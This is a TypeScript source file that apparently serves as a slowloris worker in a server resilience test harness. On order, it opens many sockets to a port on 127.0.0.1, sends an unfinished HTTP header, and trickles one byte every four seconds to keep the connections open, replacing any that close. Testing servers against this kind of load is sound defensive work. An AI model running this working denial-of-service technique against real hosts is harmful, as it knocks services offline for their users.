/** Keeps sockets open that send one octet of their header every four seconds, and opens another for each that is closed (F10: slowloris). */
import { type Socket, connect } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { type SlowOrder, attackOnOrder } from './orders.ts';

/** Sockets opened in one turn, and the time between turns: 1,250 a second, so many as are let go of after 8 of 10 seconds. */
const AT_A_TIME = 5;
const TURN_MS = 4;
const EVERY_MS = 4000;
const OPEN_LIMIT_MS = 60_000;

const sockets = new Set<Socket>();
let wanted = 0;
let target = 0;

void keep();

/** Answers with the number of sockets that are open, once they all are. */
attackOnOrder(async ({ port, sockets: count }: SlowOrder): Promise<number> => {
  target = port;
  // Some are always on their way.
  wanted = Math.ceil(1.02 * count);
  if (count === 0) for (const socket of sockets) socket.destroy();
  const endMs = performance.now() + OPEN_LIMIT_MS;
  while (isShort(count) && performance.now() < endMs) await delay(50);
  return open();
});

function isShort(count: number): boolean {
  return count === 0 ? sockets.size > 0 : open() < count;
}

async function keep(): Promise<void> {
  for (;;) {
    for (let few = 0; few < AT_A_TIME && sockets.size < wanted; few += 1) openOne();
    await delay(TURN_MS);
  }
}

function openOne(): void {
  const socket = connect(target, '127.0.0.1');
  sockets.add(socket);
  const trickle = setInterval(() => socket.write('a'), EVERY_MS);
  socket.on('error', () => {}).resume();
  socket.on('close', () => {
    clearInterval(trickle);
    sockets.delete(socket);
  });
  socket.write('GET /orders/x HTTP/1.1\r\nHost: a\r\nX-Slow: ');
}

function open(): number {
  let count = 0;
  for (const socket of sockets) if (socket.readyState === 'open') count += 1;
  return count;
}
